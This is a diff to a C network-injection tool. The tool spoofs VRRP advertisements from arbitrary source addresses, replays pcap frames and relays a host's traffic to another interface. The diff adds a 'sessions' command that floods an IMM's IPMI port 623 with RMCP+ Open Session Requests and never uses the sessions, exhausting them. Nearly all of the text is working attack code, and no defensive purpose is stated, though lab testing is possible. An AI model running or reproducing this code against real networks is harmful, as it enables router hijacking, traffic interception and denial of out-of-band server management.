@@ -3,8 +3,9 @@
  *	inject vrrp INTERFACE SOURCE HEX [COUNT [INTERVAL_MS]]	a VRRP payload to 224.0.0.18, from any source address
  *	inject replay INTERFACE FILE.pcap			the captured frames, as they were, in their order
  *	inject relay INTERFACE SOURCE OUT-INTERFACE MAC		what SOURCE sends on INTERFACE, on the other to MAC
+ *	inject sessions ADDRESS COUNT				so many RMCP+ sessions of an IMM begun, and never used
  *
- * Prints how many frames it has sent; relay goes on until it is killed. */
+ * Prints how many frames it has sent, or sessions it was refused; relay goes on until it is killed. */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <linux/if_packet.h>
@@ -110,6 +111,37 @@ relay(int in, struct sockaddr_ll *wire, const char *source, int out, const struc
 	}
 }
 
+/* IPMI 2.0 section 13.17, Open Session Request: each makes the IMM set a session aside. Returns the number of refusals.
+ */
+static long
+hoard(const char *address, long count)
+{
+	static const uint8_t request[] = { 6, 0, 0xff, 7, 6, 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 32, 0,
+		/* tag, highest privilege, session number; then algorithms: HMAC-SHA1, HMAC-SHA1-96, AES-CBC-128 */
+		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 8, 1, 0, 0, 0, 1, 0, 0, 8, 1, 0, 0, 0, 2, 0, 0, 8, 1, 0, 0, 0 };
+	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(623) };
+	struct timeval patience = { .tv_sec = 2 };
+	uint8_t frame[sizeof(request)], answer[256];
+	long refused = 0;
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+	if (fd < 0 || inet_pton(AF_INET, address, &to.sin_addr) != 1 || connect(fd, (void *)&to, sizeof(to)) != 0 ||
+		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) != 0)
+		die(address);
+	memcpy(frame, request, sizeof(frame));
+	for (long i = 1; i <= count; i++) {
+		frame[20] = (uint8_t)i;
+		frame[21] = (uint8_t)(i >> 8);
+		if (send(fd, frame, sizeof(frame), 0) < 0)
+			die("send");
+		if (recv(fd, answer, sizeof(answer), 0) < 18)
+			die("no answer");
+		refused += answer[17] != 0;
+	}
+	close(fd);
+	return refused;
+}
+
 int
 main(int argc, char **argv)
 {
@@ -130,6 +162,9 @@ main(int argc, char **argv)
 	} else if (argc == 4 && strcmp(argv[1], "replay") == 0) {
 		int fd = open_wire(argv[2], &wire);
 		sent = replay(fd, &wire, argv[3]);
+	} else if (argc == 4 && strcmp(argv[1], "sessions") == 0) {
+		printf("%ld\n", hoard(argv[2], atol(argv[3])));
+		return 0;
 	} else if (argc == 6 && strcmp(argv[1], "relay") == 0) {
 		struct sockaddr_ll target;
 		int fd = open_wire(argv[2], &wire), out = open_wire(argv[4], &target);
@@ -137,7 +172,8 @@ main(int argc, char **argv)
 	} else {
 		fputs("usage: inject vrrp INTERFACE SOURCE HEX [COUNT [INTERVAL_MS]]\n"
 		      "       inject replay INTERFACE FILE.pcap\n"
-		      "       inject relay INTERFACE SOURCE OUT-INTERFACE MAC\n",
+		      "       inject relay INTERFACE SOURCE OUT-INTERFACE MAC\n"
+		      "       inject sessions ADDRESS COUNT\n",
 			stderr);
 		return 2;
 	}
